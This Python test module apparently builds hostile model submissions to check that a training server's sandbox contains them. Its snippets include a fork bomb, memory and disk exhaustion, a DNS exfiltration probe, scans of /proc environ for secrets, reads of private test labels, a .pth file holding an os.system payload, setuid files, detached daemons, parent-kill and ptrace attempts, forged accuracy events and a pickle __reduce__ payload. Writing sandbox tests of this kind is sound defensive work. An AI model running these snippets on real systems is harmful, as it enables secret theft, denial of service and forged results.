"""Hostile model files: each is a complete LEMUR `Net` file (a tiny conv net on digits) with one attack
placed where it hurts most (at import, in `__init__`, `forward`, `learn`, during the server's check or
during training).

How a submission tells the test what it saw: `report(**found)` raises `RuntimeError("REPORT {json}")`,
which the runner turns into the job's error (message and traceback), so the attack's own view arrives
through the one channel the server is meant to return. Everything it *read* goes into that report too:
if a canary's value ever showed up there (or anywhere else the server stored), the attack would have
worked. Evidence that it did not comes from the host (see `conftest.World`); the report only explains.

The honest part never trains (no optimizer step): the network stays at its random initialisation, so
any test accuracy clearly above chance (0.1 on digits) in the zoo would have to be forged or stolen.

Placement helpers inside the template:
* `checking` (in `learn`): True while the server's check runs learn() on two batches in a list (the
  check phase, and the preamble of the training sandbox), False in the real training segments;
* `LEARN_CALLS`: one entry per learn() call (False for training segments), to pick a later segment;
* `TRAINING[0]`: True once a training segment started (forward() uses it to attack the evaluation).

The process marks itself with `prctl(PR_SET_NAME, MARK)` at import, so the host can find every process
and thread of the submission (and their forks) in /proc after the job; daemons exec'd by an attack
carry MARK in their command line instead.
"""

from __future__ import annotations

import dataclasses
import textwrap

TEMPLATE = '''\
import errno
import json
import os
import signal
import socket
import sys
import time

import torch
import torch.nn as nn

CTX = __CTX__
MARK = CTX["mark"]
LEARN_CALLS = []
TRAINING = [False]


def _tag_process():
    try:
        import ctypes

        ctypes.CDLL(None, use_errno=True).prctl(15, MARK.encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


_tag_process()


def report(**found):
    raise RuntimeError("REPORT " + json.dumps(found, sort_keys=True, default=str))


def err(exc):
    if isinstance(exc, OSError) and exc.errno:
        return exc.errno
    return type(exc).__name__


def out_dir():
    with open(sys.argv[1]) as f:  # the runner's spec.json names the writable directory
        return json.load(f)["out_dir"]


def read_probe(path, limit=200):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("latin-1")
    except Exception as e:
        return type(e).__name__


def list_probe(path):
    try:
        return sorted(os.listdir(path))
    except Exception as e:
        return type(e).__name__


#@TOP


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.device = device
        self.features = nn.Sequential(nn.Conv2d(in_shape[1], 4, 3, padding=1), nn.ReLU(), nn.AdaptiveAvgPool2d(2))
        self.head = nn.Linear(16, out_shape[0])
        #@INIT

    def forward(self, x):
        #@FORWARD
        return self.head(torch.flatten(self.features(x), 1))

    def train_setup(self, prm):
        self.to(self.device)
        self.criterion = nn.CrossEntropyLoss()
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        checking = isinstance(train_data, list)
        LEARN_CALLS.append(checking)
        if not checking:
            TRAINING[0] = True
        #@LEARN
        total = 0.0
        for inputs, labels in train_data:
            total += float(self.criterion(self(inputs), labels))
        return total
'''

SLOTS = ("TOP", "INIT", "FORWARD", "LEARN")


@dataclasses.dataclass(frozen=True)
class Ctx:
    """What a submission is told about the host: paths and ports to attack. Never a canary's value."""

    mark: str  # 15 characters: the comm name, and the tag in file names and daemon command lines
    tcp_port: int
    udp_port: int
    unix_sockets: dict[str, str]  # name -> path ("@name" for the abstract namespace)
    zoo_path: str
    state_dir: str
    jobs_dir: str
    other_job: str
    cache_dir: str
    private_dir: str
    data_root: str
    host_dir: str  # a plain host directory outside /tmp (under /var/tmp)
    host_tmp: str  # a host directory under /tmp
    repo: str
    site_packages: str
    server_pid: int

    def as_dict(self) -> dict[str, object]:
        return dataclasses.asdict(self)


def build(ctx: Ctx, **slots: str) -> str:
    """The template with each attack snippet indented into its slot."""
    code = TEMPLATE.replace("__CTX__", repr(ctx.as_dict()))
    for slot in SLOTS:
        marker = f"#@{slot}"
        line = next(ln for ln in code.splitlines() if ln.strip() == marker)
        indent = line[: len(line) - len(line.lstrip())]
        snippet = textwrap.dedent(slots.pop(slot.lower(), "pass")).strip("\n")
        code = code.replace(line, textwrap.indent(snippet, indent), 1)
    assert not slots, f"unknown slots {sorted(slots)}"
    return code


# --- resource exhaustion ----------------------------------------------------------------------------
FORK_BOMB = """
if checking:
    while True:  # every process forks forever and never returns to the runner
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
"""

MEMORY_BOMB = """
if not checking:
    hog = []
    while True:
        hog.append(b"\\x01" * (64 << 20))
"""

# The same bomb after raising its own soft RLIMIT_DATA back to the hard limit (the runner lowers only the soft
# one, to make running out an error): only the cgroup's (or container's) memory limit is left to stop it.
MEMORY_BOMB_UNCAPPED = """
if not checking:
    import resource
    _, hard = resource.getrlimit(resource.RLIMIT_DATA)
    resource.setrlimit(resource.RLIMIT_DATA, (hard, hard))
    hog = []
    while True:
        hog.append(b"\\x01" * (64 << 20))
"""

# On a GPU this is a GPU memory bomb; on CPU it exercises the same path with host memory.
DEVICE_MEMORY_BOMB = """
if not checking:
    hog = torch.empty(1 << 40, dtype=torch.uint8, device=self.device)
    hog.fill_(1)
"""

FILL_TMP = """
if checking:
    found = {}
    block = b"\\0" * (1 << 20)
    for base in ("/tmp", "/dev/shm"):
        total, last, names = 0, None, []
        for i in range(64):  # several files: RLIMIT_FSIZE caps each one
            name = os.path.join(base, f"{MARK}-fill{i}")
            names.append(name)
            fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
            try:
                while total < (8 << 30):
                    total += os.write(fd, block)
            except OSError as e:
                last = err(e)
            finally:
                os.close(fd)
            if last != errno.EFBIG or total >= (8 << 30):
                break
        for name in names:
            os.remove(name)
        found[base] = [total, last]
    report(**found)
"""

FILL_OUT = """
if checking:
    block = b"\\0" * (1 << 20)
    first, first_err = 0, None
    fd = os.open(os.path.join(out_dir(), MARK + "-big"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        while first < (1 << 30):
            first += os.write(fd, block)
    except OSError as e:
        first_err = err(e)
    finally:
        os.close(fd)
    more, more_err = 0, None
    for i in range(2):  # two more files of 64 MiB: the total, not only each file, must be capped
        fd = os.open(os.path.join(out_dir(), f"{MARK}-more{i}"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        try:
            for _ in range(64):
                more += os.write(fd, block)
        except OSError as e:
            more_err = err(e)
        finally:
            os.close(fd)
        if more_err is not None:
            break
    time.sleep(2)  # a live job: the host's watchdog looks at out/ a few times a second
    report(first=[first, first_err], more=[more, more_err])
"""

THREAD_STORM = """
if checking:
    import threading

    stop = threading.Event()
    threads, error = [], None
    try:
        for _ in range(2000):
            t = threading.Thread(target=stop.wait, daemon=True)
            t.start()
            threads.append(t)
    except RuntimeError as e:
        error = str(e)
    print("THREADS " + json.dumps({"threads": len(threads), "error": error}), flush=True)
    torch.set_num_threads(512)  # OpenMP cannot start them either: libgomp gives up and exits 1
    x = torch.randn(256, 256)
    float((x @ x).sum())
    report(threads=len(threads), error=error, torch_threads=torch.get_num_threads())
"""

STDOUT_FLOOD = """
if checking:
    line = (MARK + " flood " + "x" * 1000 + "\\n").encode()
    block = line * 1024
    for _ in range(96):
        os.write(1, block)
    os._exit(7)
"""

STDERR_FLOOD = """
if checking:
    junk = bytes(range(256)) + b"\\x1b[31m\\xff\\xfe\\x00" + MARK.encode()
    block = junk * 4096
    for _ in range(96):
        os.write(2, block)
    os._exit(9)
"""

HUGE_OUTPUT = """
if not checking and len(LEARN_CALLS) and LEARN_CALLS.count(False) == 1:
    import numpy

    def huge_save(file, arr, allow_pickle=False):  # the runner's predictions become 200 MiB
        with open(file, "wb") as f:
            f.truncate(200 << 20)

    numpy.save = huge_save
    with open(os.path.join(out_dir(), "events.jsonl"), "a") as f:
        f.write('{"event": "warning", "junk": "' + "A" * (3 << 20) + '"}\\n')
        f.write("not json at all\\n" * 10000)
"""

# --- the wall clock ---------------------------------------------------------------------------------
LOOP = """
while True:
    pass
"""

LOOP_IN_EVAL = """
if TRAINING[0] and not self.training:  # the evaluation after the first training segment
    while True:
        pass
"""

LOOP_IN_TRAINING = """
if not checking:
    while True:
        pass
"""

SLEEP_IN_TRAINING = """
if not checking:
    for s in signal.Signals:
        try:
            signal.signal(s, signal.SIG_IGN)
        except (OSError, ValueError, RuntimeError):
            pass
    time.sleep(10**6)
"""

# --- network ----------------------------------------------------------------------------------------
TCP = """
found = {}
try:
    s = socket.create_connection(("127.0.0.1", CTX["tcp_port"]), timeout=3)
    s.sendall(MARK.encode())
    found["tcp"] = "connected"
except OSError as e:
    found["tcp"] = err(e)
try:
    s = socket.create_connection(("localhost", CTX["tcp_port"]), timeout=3)
    s.sendall(MARK.encode())
    found["tcp_localhost"] = "connected"
except OSError as e:
    found["tcp_localhost"] = err(e)
report(**found)
"""

UDP = """
found = {}
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(MARK.encode(), ("127.0.0.1", CTX["udp_port"]))
    found["udp"] = "sent"
except OSError as e:
    found["udp"] = err(e)
report(**found)
"""

DNS = """
found = {}
try:
    socket.getaddrinfo(MARK + ".exfil.invalid", 53)
    found["dns"] = "resolved"
except socket.gaierror as e:
    found["dns"] = "gaierror"
found["ifaces"] = sorted(name for _, name in socket.if_nameindex())
try:
    with open("/proc/net/route") as f:
        found["routes"] = [line for line in f.read().splitlines() if not line.startswith("Iface")]
except OSError as e:
    found["routes"] = err(e)
report(**found)
"""

UNIX = """
found = {}
for name, path in sorted(CTX["unix_sockets"].items()):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect("\\0" + path[1:] if path.startswith("@") else path)
        s.sendall(MARK.encode())
        found[name] = "connected"
    except OSError as e:
        found[name] = err(e)
    finally:
        s.close()
for path in ("/var/run/docker.sock", "/run/docker.sock"):  # looked at, never connected to
    found[path] = os.path.exists(path)
report(**found)
"""

# --- reading what must stay hidden ------------------------------------------------------------------
READ_ZOO = """
report(
    zoo=read_probe(CTX["zoo_path"], 16),
    zoo_dir=list_probe(CTX["state_dir"]),
    canary=read_probe(os.path.join(CTX["state_dir"], "canary.txt")),
    via_proc=read_probe(f"/proc/{CTX['server_pid']}/root" + CTX["zoo_path"], 16),
)
"""

READ_ENV = """
found = {"names": sorted(os.environ), "lemur": {k: v for k, v in os.environ.items() if k.startswith("LEMUR_SECRET")}}
for pid in ["self", "1", str(CTX["server_pid"])]:
    raw = read_probe(f"/proc/{pid}/environ", 1 << 16)
    found[f"proc_{pid}"] = [kv for kv in raw.split("\\0") if kv.startswith("LEMUR_SECRET")] if "=" in raw else raw
scan = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        raw = read_probe(f"/proc/{pid}/environ", 1 << 16)
        scan += [kv for kv in raw.split("\\0") if kv.startswith("LEMUR_SECRET")]
found["scan"] = scan
report(**found)
"""

READ_LABELS = """
import glob

found = {
    "private": read_probe(os.path.join(CTX["private_dir"], "test_y.npy"), 64),
    "canary": read_probe(os.path.join(CTX["private_dir"], "canary.txt")),
    "cache": list_probe(CTX["cache_dir"]),
    "data_root": list_probe(CTX["data_root"]),
}
with open(sys.argv[1]) as f:
    data_dir = json.load(f)["data_dir"]
found["public"] = list_probe(data_dir)
hits = []
for root in (CTX["state_dir"], CTX["data_root"], "/data", "/usr/share/datasets", "/mnt", "/srv", "/opt", "/tmp"):
    for pattern in ("test_y.npy", "digits.csv*", "t10k-labels*", "test_batch", "test_32x32.mat"):
        hits += glob.glob(os.path.join(root, "**", pattern), recursive=True)
found["hits"] = sorted(set(hits))
found["sklearn_csv"] = read_probe(os.path.join(CTX["site_packages"], "sklearn", "datasets", "data", "digits.csv.gz"), 8)
try:
    from sklearn.datasets import load_digits

    found["sklearn"] = int(load_digits().target.sum())
except Exception as e:
    found["sklearn"] = type(e).__name__
report(**found)
"""

READ_OTHER_JOB = """
other = CTX["other_job"]
found = {
    "model": read_probe(os.path.join(other, "in", "model.py")),
    "events": read_probe(os.path.join(other, "out", "events.jsonl")),
    "jobs": list_probe(CTX["jobs_dir"]),
}
try:
    with open("/proc/self/mountinfo") as f:
        found["jobs_in_mountinfo"] = CTX["jobs_dir"] in f.read()
except OSError as e:
    found["jobs_in_mountinfo"] = err(e)
report(**found)
"""

# --- writing outside scratch ------------------------------------------------------------------------
WRITE_OUTSIDE = """
if checking:
    spec_path = sys.argv[1]
    in_dir = os.path.dirname(spec_path)
    with open(spec_path) as f:
        spec = json.load(f)
    created = {  # new files (removed by the test if one ever appeared)
        "repo": os.path.join(CTX["repo"], MARK),
        "site_pth": os.path.join(CTX["site_packages"], MARK + ".pth"),
        "host_dir": os.path.join(CTX["host_dir"], MARK),
        "state_dir": os.path.join(CTX["state_dir"], MARK),
        "jobs_dir": os.path.join(CTX["jobs_dir"], MARK),
        "in_dir": os.path.join(in_dir, MARK),
        "data_dir": os.path.join(spec["data_dir"], MARK),
        "etc": "/etc/" + MARK,
        "root": "/" + MARK,
        "var_tmp": "/var/tmp/" + MARK,
    }
    opened = {  # existing files opened for writing, nothing written
        "model_py": spec["model_path"],
        "spec_json": spec_path,
        "train_x": os.path.join(spec["data_dir"], "train_x.npy"),
        "zoo": CTX["zoo_path"],
        "runner": os.path.join(CTX["repo"], "sandbox", "runner", "trainer.py"),
        "torch": torch.__file__,
    }
    scratch = {"tmp": "/tmp/" + MARK, "out": os.path.join(out_dir(), MARK)}
    found = {}
    for key, path in {**created, **scratch}.items():
        try:
            with open(path, "x") as f:
                f.write("import os; os.system('touch /var/tmp/" + MARK + "-pwned')\\n")
            found[key] = "written"
        except OSError as e:
            found[key] = err(e)
    for key, path in opened.items():
        try:
            with open(path, "r+b"):
                found[key] = "opened"
        except OSError as e:
            found[key] = err(e)
    report(**found)
"""

SETUID_FILE = """
if checking:
    path = os.path.join(out_dir(), MARK + "-suid")
    with open(path, "w") as f:
        f.write("#!/bin/sh\\nid\\n")
    found = {}
    for name, mode in (("suid", 0o4755), ("sgid", 0o2755)):
        try:
            os.chmod(path, mode)
            found[name] = oct(os.stat(path).st_mode & 0o7777)
        except OSError as e:
            found[name] = err(e)
        time.sleep(1)  # the host looks at the file meanwhile
    try:
        os.chmod(path, 0o6755)
    except OSError:
        pass
    time.sleep(1)
    found["uid"] = os.stat(path).st_uid
    report(**found)
"""

# Lines of valid JSON the host must parse: a flood of them must not stall the server.
EVENTS_FLOOD = """
if checking:
    line = b'{"event": "warning", "n": 0}\\n'
    block = line * ((1 << 20) // len(line))
    fd = os.open(os.path.join(out_dir(), "events.jsonl"), os.O_WRONLY | os.O_APPEND)
    for _ in range(64):
        os.write(fd, block)
    os.close(fd)
    time.sleep(1)
    report(flooded=64 * len(block))
"""

SYMLINK_PREDS = """
if not checking and LEARN_CALLS.count(False) == 1:
    import numpy

    real_save = numpy.save
    target = os.path.join(CTX["private_dir"], "test_y.npy")

    def linking_save(file, arr, allow_pickle=False):  # the host would score the labels against themselves
        real_save(file, arr, allow_pickle=allow_pickle)
        os.remove(file)
        os.symlink(target, file)

    numpy.save = linking_save
"""

# --- processes and signals --------------------------------------------------------------------------
DAEMON = """
if checking:
    import subprocess

    sleeper = [sys.executable, "-c", "import time; time.sleep(300)"]
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.execv(sys.executable, sleeper + [MARK + "-daemon"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    p = subprocess.Popen(sleeper + [MARK + "-popen"], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(2)  # long enough for the host to see both
    report(daemon_parent=pid, popen=p.pid)
"""

EXIT_ZERO = """
if not checking and LEARN_CALLS.count(False) == 2:  # after the first learning-curve point
    os._exit(0)
"""

KILL_PARENT = """
if checking:
    ppid = os.getppid()
    found = {"ppid": ppid}
    try:
        os.kill(CTX["server_pid"], 0)  # signal 0: only asks whether the server's pid can be signalled
        found["server_visible"] = "sent"
    except OSError as e:
        found["server_visible"] = err(e)
    targets = (("parent_stop", ppid, signal.SIGSTOP), ("parent_kill", ppid, signal.SIGKILL),
               ("init_kill", 1, signal.SIGKILL))
    for name, pid, sig in targets if found["server_visible"] == errno.ESRCH else ():  # never outside a PID ns
        try:
            os.kill(pid, sig)
            found[name] = "sent"
        except OSError as e:
            found[name] = err(e)
    time.sleep(0.5)
    try:
        os.kill(ppid, 0)
        found["parent_alive"] = True
    except OSError:
        found["parent_alive"] = False
    report(**found)
"""

PRIVILEGED = """
if checking:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)

    def sys_errno(call, *args):
        ctypes.set_errno(0)
        rc = call(*args)
        return 0 if rc == 0 else ctypes.get_errno()

    def in_child(call, *args):  # unshare(CLONE_NEWUSER) needs a single-threaded caller: a fresh fork
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                os.write(w, str(sys_errno(call, *args)).encode())
            finally:
                os._exit(0)
        os.close(w)
        os.waitpid(pid, 0)
        with os.fdopen(r) as f:
            return int(f.read() or -1)

    found = {
        "unshare_user": in_child(libc.unshare, 0x10000000),
        "unshare_mount": in_child(libc.unshare, 0x00020000),
        "unshare_net": in_child(libc.unshare, 0x40000000),
        "mount_tmpfs": sys_errno(libc.mount, b"none", b"/tmp", b"tmpfs", ctypes.c_ulong(0), None),
        "umount_cover": sys_errno(libc.umount2, b"/var/tmp", 2),  # covered whole in the process sandbox
        "ptrace_server": sys_errno(libc.ptrace, ctypes.c_long(16), ctypes.c_long(CTX["server_pid"]), None, None),
        "ptrace_parent": sys_errno(libc.ptrace, ctypes.c_long(16), ctypes.c_long(os.getppid()), None, None),
        "setuid": sys_errno(libc.setuid, 0 if os.getuid() else 12345),
        "chroot": sys_errno(libc.chroot, b"/tmp"),
        "sethostname": sys_errno(libc.sethostname, b"pwned", ctypes.c_size_t(5)),
        "mknod_disk": sys_errno(libc.mknod, ("/tmp/" + MARK).encode(), 0o60600, ctypes.c_ulong((254 << 8) | 0)),
    }
    if found["ptrace_parent"] == 0:  # let the parent (the sandbox's own init) go on
        time.sleep(0.1)
        libc.ptrace(ctypes.c_long(17), ctypes.c_long(os.getppid()), None, None)  # PTRACE_DETACH
    found["raw_disk"] = read_probe("/dev/vda", 4)
    found["state_dir"] = list_probe(CTX["state_dir"])
    report(**found)
"""

# --- forging what the server scores -----------------------------------------------------------------
TAMPER = """
if not checking and LEARN_CALLS.count(False) == 1:
    import numpy

    from sandbox.runner import emit as runner_emit

    real_emit = runner_emit.Emitter.emit

    def forged_emit(self, event, **fields):
        if event == "point":
            fields.update(val_accuracy=1.0, train_accuracy=1.0, accuracy=1.0, test_accuracy=1.0, train_ns=1,
                          loss=0.0)
        return real_emit(self, event, **fields)

    runner_emit.Emitter.emit = forged_emit
    torch.Tensor.argmax = lambda self, *a, **k: torch.zeros(self.shape[0], dtype=torch.long, device=self.device)
    numpy.mean = lambda *a, **k: 1.0
    with open(os.path.join(out_dir(), "result.json"), "w") as f:
        json.dump({"accuracy": 1.0}, f)
    print("ACCURACY: 1.0", flush=True)
if not checking and LEARN_CALLS.count(False) == 2:
    raise RuntimeError("tampering done")
"""

# Lines appended straight to events.jsonl: a trial that never ran, a second point for an epoch of the real
# trial, and a `done` naming the fake trial, all claiming accuracy 1.0 (with predictions of one class).
FORGED_EVENTS = """
if not checking and LEARN_CALLS.count(False) == 1:
    import numpy

    out = out_dir()
    with open(sys.argv[1]) as f:
        n_test = len(numpy.load(os.path.join(json.load(f)["data_dir"], "test_x.npy"), mmap_mode="r"))
    os.makedirs(os.path.join(out, "preds"), exist_ok=True)
    numpy.save(os.path.join(out, "preds", "forged.npy"), numpy.zeros(n_test, dtype=numpy.int16))
    forged = [
        {"event": "trial_start", "trial": 99, "prm": {"lr": 0.5, "momentum": 0.5, "batch": 32}},
        {"event": "point", "trial": 99, "epoch": 1.0, "preds": "preds/forged.npy", "val_accuracy": 1.0,
         "accuracy": 1.0, "train_ns": 10**9, "loss": 0.0},
        {"event": "trial_end", "trial": 99, "status": "completed", "val_accuracy": 1.0, "accuracy": 1.0},
        {"event": "point", "trial": 0, "epoch": 0.5, "preds": "preds/forged.npy", "val_accuracy": 1.0,
         "accuracy": 1.0, "train_ns": 10**9},
        {"event": "done", "best_trial": 99, "accuracy": 1.0},
    ]
    with open(os.path.join(out, "events.jsonl"), "a") as f:
        f.write("".join(json.dumps(e) + "\\n" for e in forged))
if not checking and LEARN_CALLS.count(False) == 2:
    raise RuntimeError("forging done")
"""

MALFORMED_EVENTS = """
if not checking and LEARN_CALLS.count(False) == 1:
    lines = [
        '{"event": "trial_start", "trial": "zero"}',
        '{"event": "point", "trial": 0, "epoch": "half", "preds": "preds/t0_e0.5.npy"}',
        '{"event": "trial_start", "trial": 1e999}',
        '{"event": "point", "trial": [0], "epoch": 0.5}',
        "[" * 100000 + "]" * 100000,
        '{"event": "trial_end", "trial": {"x": 1}, "status": "completed"}',
        '{"event": "check", "params": "many", "flops": -1}',
        '{"event": "first_step", "t_unix": "now"}',
    ]
    with open(os.path.join(out_dir(), "events.jsonl"), "a") as f:
        f.write("".join(line + "\\n" for line in lines))
if not checking and LEARN_CALLS.count(False) == 2:  # after the honest point at epoch 0.5
    import numpy

    with open(sys.argv[1]) as f:
        n_test = len(numpy.load(os.path.join(json.load(f)["data_dir"], "test_x.npy"), mmap_mode="r"))
    os.makedirs(os.path.join(out_dir(), "preds"), exist_ok=True)
    numpy.save(os.path.join(out_dir(), "preds", "zeros.npy"), numpy.zeros(n_test, dtype=numpy.int16))
    points = [  # well-formed points whose numbers are not (Python's json reads NaN and Infinity)
        '{"event": "point", "trial": 0, "epoch": 0.75, "preds": "preds/zeros.npy", "val_accuracy": NaN, '
        '"loss": Infinity}',
        '{"event": "point", "trial": 0, "epoch": 1.0, "preds": "preds/zeros.npy", "val_accuracy": 7.5, '
        '"loss": true}',
    ]
    with open(os.path.join(out_dir(), "events.jsonl"), "a") as f:
        f.write("".join(line + "\\n" for line in points))
    raise RuntimeError("malformed events written")
"""

PICKLE_WEIGHTS = """
if not checking and LEARN_CALLS.count(False) == 2:  # after the first point: claim the trial is done
    import pickle

    class Payload:
        def __reduce__(self):
            return (os.system, ("touch /var/tmp/" + MARK + "-pwned",))

    out = out_dir()
    os.makedirs(os.path.join(out, "weights"), exist_ok=True)
    with open(os.path.join(out, "weights", "t0.safetensors"), "wb") as f:
        pickle.dump(Payload(), f)
    with open(os.path.join(out, "events.jsonl"), "a") as f:
        f.write(json.dumps({"event": "trial_end", "trial": 0, "status": "completed",
                            "weights": "weights/t0.safetensors"}) + "\\n")
    raise RuntimeError("pickle planted")
"""

# --- plain failures ---------------------------------------------------------------------------------
NAN_LOSS = """
if not checking:
    return float("nan")
"""

WRONG_SHAPE = """
return self.head(torch.flatten(self.features(x), 1))[:, :3]
"""

MISSING_MODULE = """
import lemur_hostile_module_that_does_not_exist  # noqa: F401
"""
